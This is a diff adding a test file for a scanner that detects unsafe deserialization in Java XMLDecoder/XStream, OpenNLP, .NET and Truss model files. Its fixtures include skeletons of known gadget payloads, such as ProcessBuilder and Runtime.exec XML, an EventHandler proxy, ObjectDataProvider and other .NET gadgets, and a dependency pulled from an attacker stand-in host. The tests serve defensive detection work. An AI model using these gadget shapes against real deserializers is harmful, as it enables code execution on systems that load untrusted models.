@@ -1,0 +1,119 @@
+/** Objects of Java as XML, of .NET, classes of OpenNLP, the configuration of Truss: what their readers make and run is found. XMLDecoder of OpenJDK 17 ran each of the first three when this was written. */
+import test from 'ava';
+import { zip } from '../support/containers.ts';
+import { survivesMutations } from '../support/mutations.ts';
+import { findingLines, judgeBytes } from '../support/scanned.ts';
+
+const finds = test.macro(async (t, name: string, content: Uint8Array | string, ...expected: readonly string[]) => {
+  const lines = await findingLines(content, name);
+  t.deepEqual([...lines].sort(), expected.map((line) => `${line} ${name}`).sort());
+});
+
+const DECODER = 'medium java/xml-decoder';
+const GADGET = 'critical java/java.lang/gadget';
+const START = '<array class="java.lang.String" length="1"/><void method="start"/>';
+const java = (...elements: readonly string[]) => `<?xml version="1.0"?>\n<!-- a -->\n<java>${elements.join('')}</java>`;
+const PROCESS = java(`<object class="java.lang.ProcessBuilder">${START}</object>`);
+test('XMLDecoder: a process', finds, 'model.xml', PROCESS, GADGET, DECODER);
+test(
+  'XMLDecoder: in characters by their numbers',
+  finds,
+  'data',
+  java(`<new class = 'java.lang.&#80;rocess&#x42;uilder'>${START}</new>`),
+  GADGET,
+  DECODER,
+);
+test(
+  'XMLDecoder: a method of a class',
+  finds,
+  'a.model',
+  java('<void class="java.lang.Runtime" method="getRuntime"><void method="exec"/></void>'),
+  GADGET,
+  DECODER,
+);
+test('XMLDecoder: by the text of a class', finds, 'x', java('<class>java.lang.Runtime</class>'), GADGET, DECODER);
+test('XMLDecoder: in UTF-16', finds, 'x', Buffer.from(`\ufeff${PROCESS}`, 'utf16le'), GADGET, DECODER);
+test(
+  'XMLDecoder: values alone',
+  finds,
+  'settings.xml',
+  '<java version="17" class="java.beans.XMLDecoder"><object class="java.util.ArrayList"/></java>',
+  DECODER,
+);
+test(
+  'XStream: a proxy',
+  finds,
+  'model.xml',
+  '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"/></handler></dynamic-proxy></sorted-set>',
+  'critical java/java.beans/gadget',
+  GADGET,
+  'medium java/xstream',
+);
+test(
+  'XStream: a model of Weka',
+  finds,
+  'j48.xml',
+  '<weka.classifiers.trees.J48><m__x>1</m__x></weka.classifiers.trees.J48>',
+  'medium java/xstream',
+);
+for (const [name, content] of Object.entries({
+  'layout.xml': '<androidx.constraintlayout.widget.ConstraintLayout xmlns:android="x" class="java.lang.Runtime"/>',
+  'pom.xml': '<project><class>java.lang.Runtime</class></project>',
+  'javadoc.html': '<javadoc><java>x</java></javadoc>',
+}))
+  test(`${name} is no model`, async (t) => {
+    t.deepEqual(await findingLines(content, name), []);
+    t.is((await judgeBytes(content, name)).status, 'not-a-model');
+  });
+
+const manifest = (factory: string) =>
+  `Manifest-Version=1.0\nComponent-Name=TokenizerME\nOpenNLP-Version=2.3.0\nfactory=${factory}\nserializer-class-x=opennlp.tools.util.model.GenericModelSerializer\n`;
+const nlp = (factory: string) => zip([{ name: 'manifest.properties', content: Buffer.from(manifest(factory)) }]);
+test('OpenNLP: its own class', finds, 'en-token.bin', nlp('opennlp.tools.tokenize.TokenizerFactory'));
+test('OpenNLP: a class of its own kind elsewhere', async (t) => {
+  const lines = await findingLines(nlp('org.example.Factory'), 'en-token.bin');
+  t.deepEqual(lines, ['medium java/extension en-token.bin!manifest.properties']);
+});
+test('OpenNLP: a class of a known attack, in escapes', async (t) => {
+  const lines = await findingLines(nlp('javax.script.Script\\u0045ngineManager'), 'x');
+  t.true(lines.includes('critical java/javax.script/gadget x!manifest.properties'), `${lines}`);
+});
+
+const sized = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
+const dotnet = (name: string) =>
+  Buffer.concat([
+    Buffer.from('0001000000ffffffff0100000000000000', 'hex'),
+    Buffer.from([0x0c, 2, 0, 0, 0]),
+    sized('Accord.MachineLearning, Version=3.8.0.0, Culture=neutral'),
+    Buffer.from([5, 1, 0, 0, 0]),
+    sized(name),
+    Buffer.from([0, 0, 0, 0, 2, 0, 0, 0, 0x0b]),
+  ]);
+const READ = 'medium dotnet/deserialization';
+test('.NET: a model', finds, 'svm.accord', dotnet('Accord.MachineLearning.VectorMachines.SupportVectorMachine'), READ);
+for (const name of [
+  'System.Windows.Data.ObjectDataProvider',
+  'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties',
+])
+  test(`.NET: ${name}`, finds, 'data', dotnet(name), READ, 'critical dotnet/gadget');
+
+const TRUSS = 'model_name: x\npython_version: py311\nrequirements:\n- torch\n- git+https://evil.example/x\n';
+test('Truss: packages from elsewhere', finds, 'config.yaml', TRUSS, 'medium serving/packages-elsewhere');
+test('Truss: a class outside', finds, 'config.yaml', 'model_module_dir: ../../x\n', 'high serving/file-elsewhere');
+test('Truss: the configuration of another program', finds, 'config.yaml', 'model_name: x\npython_version: "3.11"\n');
+test('Truss: the class that it names', async (t) => {
+  const file = zip([
+    { name: 'model/model.py', content: Buffer.from('import os\nos.system("echo harmless")\nclass Model: pass\n') },
+    { name: 'config.yaml', content: Buffer.from(TRUSS) },
+  ]);
+  t.true((await findingLines(file, 'a.zip')).includes('critical python/os/process-execution a.zip!model/model.py'));
+});
+
+for (const [name, content] of [
+  ['a.xml', Buffer.from(PROCESS)],
+  ['manifest.properties', Buffer.from(manifest('a.B'))],
+  ['a.bin', dotnet('System.Data.DataSet')],
+] as const)
+  test(`${name}: any change and any cut ends in evidence`, async (t) => {
+    await survivesMutations(t, content, name, { seed: 31 });
+  });
